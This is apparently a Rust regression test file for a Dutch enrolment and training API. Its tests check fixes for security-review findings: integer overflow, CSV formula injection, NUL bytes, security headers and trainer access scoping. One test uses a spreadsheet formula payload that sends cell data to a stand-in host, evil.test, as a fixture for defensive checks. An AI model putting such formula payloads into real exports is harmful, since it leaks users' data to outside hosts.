//! Findings of the security review, each with the test that failed before its fix.

use serde_json::json;
use va_tests::expect_json as send;
use va_tests::{db_tests, TestApp};

use super::waitlist::approved;

/// `i32::MIN` as a priority adjustment overflowed `abs()` (a panic in debug,
/// a wrap past the ±5 check in release): now 422 for every value out of range.
async fn an_extreme_priority_adjustment_is_refused(app: TestApp) {
    let ids = approved(&app, "gemeente.venlo@demo.local", "ambassadeur.noord@demo.local", &[("P Q", "p.q@venlo.demo.local", true)]).await;
    let bel = app.token("bel@demo.local").await;
    for adjustment in [i64::from(i32::MIN), i64::from(i32::MAX), 6, -6] {
        let body = send(app.put_json(&format!("/api/v1/enrolments/{}/priority", ids[0]), Some(&bel), &json!({"adjustment": adjustment, "reason": "Spoed"})).await, 422).await;
        assert_eq!(body["errors"][0]["field"], "adjustment", "{adjustment}: {body}");
    }
    send(app.put_json(&format!("/api/v1/enrolments/{}/priority", ids[0]), Some(&bel), &json!({"adjustment": -5, "reason": "Later"})).await, 200).await;
}

/// A name that a spreadsheet would run as a formula comes out of the CSV as text.
async fn csv_exports_do_not_carry_formulas(app: TestApp) {
    let evil = "=HYPERLINK(\"http://evil.test/?\"&A1,\"klik\")";
    approved(&app, "gemeente.venlo@demo.local", "ambassadeur.noord@demo.local", &[(evil, "evil@venlo.demo.local", true)]).await;
    let bel = app.token("bel@demo.local").await;
    let csv = app.get("/api/v1/exports/requests?format=csv", Some(&bel)).await.text().await.expect("csv");
    assert!(!csv.lines().any(|l| l.split(';').any(|cell| cell.trim_matches('"').starts_with('='))), "{csv}");
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
}

/// A NUL character in any JSON body answered 500 on PostgreSQL (even on the
/// login); now 400 on both databases, before any handler, and nothing is stored.
async fn a_nul_character_is_refused_at_the_edge(app: TestApp) {
    let before = (app.count("login_attempts").await, app.count("enrolment_requests").await, app.count("professionals").await);
    for (path, body) in [
        ("/api/v1/auth/login", r#"{"email":"a\u0000b@x.nl","password":"x"}"#),
        ("/api/v1/auth/password-reset", r#"{"email":"a\u0000b@x.nl"}"#),
        ("/api/v1/auth/set-password", r#"{"token":"\u0000","password":"een-goed-wachtwoord"}"#),
    ] {
        let res = app.post_raw(path, None, body).await;
        assert_eq!(res.status(), 400, "{path}");
        assert_eq!(res.headers()["content-type"], "application/problem+json");
    }
    let venlo = app.token("gemeente.venlo@demo.local").await;
    let prog = app.id_of("SELECT id FROM programmes").await;
    let body = format!(r#"{{"programme_id":{prog},"submit":true,"professionals":[{{"name":"A\u0000B","email":"ab@venlo.demo.local","works_on_ret_uhp":true}}]}}"#);
    let res = app.post_raw("/api/v1/requests", Some(&venlo), &body).await;
    assert_eq!(res.status(), 400);
    let after = (app.count("login_attempts").await, app.count("enrolment_requests").await, app.count("professionals").await);
    assert_eq!(before, after, "nothing stored");
    // A body over the limit gets the same problem document as any unreadable body.
    let big = format!(r#"{{"email":"{}","password":"x"}}"#, "a".repeat(300 * 1024));
    let res = app.post_raw("/api/v1/auth/login", None, &big).await;
    assert_eq!((res.status().as_u16(), res.headers()["content-type"].to_str().unwrap_or_default()), (400, "application/problem+json"));
    // A backslash followed by the text u0000 is fine.
    let ok = format!(r#"{{"programme_id":{prog},"professionals":[{{"name":"A B","email":"ab@venlo.demo.local","works_on_ret_uhp":true,"remarks":"map C:\\u0000"}}]}}"#);
    let res = app.post_raw("/api/v1/requests", Some(&venlo), &ok).await;
    let status = res.status();
    assert_eq!(status, 201, "{}", res.text().await.unwrap_or_default());
}

/// Security headers on the SPA, the API and the docs; no caching of personal data.
async fn answers_carry_security_headers(app: TestApp) {
    let bel = app.token("bel@demo.local").await;
    let api = app.get("/api/v1/organisations", Some(&bel)).await;
    let h = api.headers();
    assert_eq!(h["cache-control"], "no-store");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert_eq!(h["x-frame-options"], "DENY");
    assert_eq!(h["referrer-policy"], "no-referrer");
    assert!(h["content-security-policy"].to_str().unwrap_or_default().contains("frame-ancestors 'none'"));
    let spa = app.get("/bel", None).await;
    let csp = spa.headers()["content-security-policy"].to_str().unwrap_or_default().to_string();
    let script = csp.split(';').find(|d| d.trim().starts_with("script-src")).unwrap_or_default().to_string();
    assert!(!script.contains("unsafe-inline") && script.contains("'self'"), "{csp}");
    assert!(spa.headers().get("cache-control").is_none_or(|v| v != "no-store"), "the SPA shell may be cached");
    let docs = app.get("/api/docs/", None).await;
    assert!(docs.headers()["content-security-policy"].to_str().unwrap_or_default().contains("frame-ancestors 'none'"));
}

/// A second trainer could read any group's participants and plan follow-up
/// for another trainer's trainees or take over an organisation's request: now
/// every group-scoped operation asks whether the trainer runs the group.
async fn a_trainer_reaches_only_the_groups_they_run(app: TestApp) {
    let (g5, ids) = super::followup::trained_groep_5(&app).await;
    let sanne = app.id_of(&format!("SELECT professional_id FROM enrolments WHERE id = {}", ids[0])).await;
    let venlo = app.token("gemeente.venlo@demo.local").await;
    let req = send(app.post_json("/api/v1/followup/requests", Some(&venlo), &json!({"kind": "supervision", "professional_ids": [sanne], "message": "Graag"})).await, 200).await;
    let bel = app.token("bel@demo.local").await;
    send(app.post_json("/api/v1/users", Some(&bel), &json!({"email": "trainer2@demo.local", "name": "Tweede Trainer", "role": "trainer"})).await, 201).await;
    let link = va_tests::token_from_mail(&app.wait_for_mail("trainer2@demo.local").await);
    let res = app.post_json("/api/v1/auth/set-password", None, &json!({"token": link, "password": "een-goed-wachtwoord"})).await;
    assert_eq!(res.status(), 204);
    let other: serde_json::Value = app.login("trainer2@demo.local", "een-goed-wachtwoord").await.json().await.expect("json");
    let other = other["token"].as_str().expect("token").to_string();
    let own = app.token("trainer@demo.local").await;

    let detail = send(app.get(&format!("/api/v1/groups/{g5}"), Some(&own)).await, 200).await;
    assert_eq!(detail["group"]["id"].as_i64(), Some(g5), "the group's own trainer reads it");
    for path in [format!("/api/v1/groups/{g5}"), format!("/api/v1/groups/{g5}/attendance"), format!("/api/v1/groups/{g5}/feedback"), format!("/api/v1/groups/{g5}/evaluation")] {
        let res = app.get(&path, Some(&other)).await;
        assert_eq!(res.status(), 404, "{path}");
        assert!(!res.text().await.expect("body").contains("willems"), "{path}");
    }
    let sessions = app.count("followup_sessions").await;
    let plan = |extra: serde_json::Value| {
        let mut body = json!({"kind": "supervision", "professional_ids": [], "day": "2027-03-10", "starts_at": "13:00", "ends_at": "15:30", "place": "BEL Venlo", "trainer_id": null});
        if let (Some(b), Some(e)) = (body.as_object_mut(), extra.as_object()) {
            b.extend(e.clone());
        }
        body
    };
    let field = |v: &serde_json::Value| (v["errors"][0]["field"].as_str().unwrap_or_default().to_string(), v["errors"][0]["code"].as_str().unwrap_or_default().to_string());
    let body = send(app.post_json("/api/v1/followup/sessions", Some(&other), &plan(json!({"professional_ids": [sanne]}))).await, 422).await;
    assert_eq!(field(&body), ("professional_ids[0]".into(), "not_trained".into()), "another trainer's trainee");
    let body = send(app.post_json("/api/v1/followup/sessions", Some(&other), &plan(json!({"group_id": g5}))).await, 422).await;
    assert_eq!(field(&body), ("group_id".into(), "not_your_group".into()));
    let body = send(app.post_json("/api/v1/followup/sessions", Some(&own), &plan(json!({"professional_ids": [sanne], "request_id": req["id"]}))).await, 422).await;
    assert_eq!(field(&body), ("request_id".into(), "unknown".into()), "an organisation's request is BEL's to plan");
    assert_eq!(app.count("followup_sessions").await, sessions, "nothing planned");
    assert_eq!(app.db_text(&format!("SELECT status FROM followup_requests WHERE id = {}", req["id"])).await, "open");
    assert_eq!(app.scalar::<i64>("SELECT COUNT(*) FROM email_outbox WHERE template = 'followup_planned'").await, 0, "no invitations");
    // The group's own trainer still plans for their trainees.
    send(app.post_json("/api/v1/followup/sessions", Some(&own), &plan(json!({"professional_ids": [sanne]}))).await, 200).await;
}

db_tests!(
    answers_carry_security_headers,
    an_extreme_priority_adjustment_is_refused,
    csv_exports_do_not_carry_formulas,
    a_nul_character_is_refused_at_the_edge,
    a_trainer_reaches_only_the_groups_they_run
);
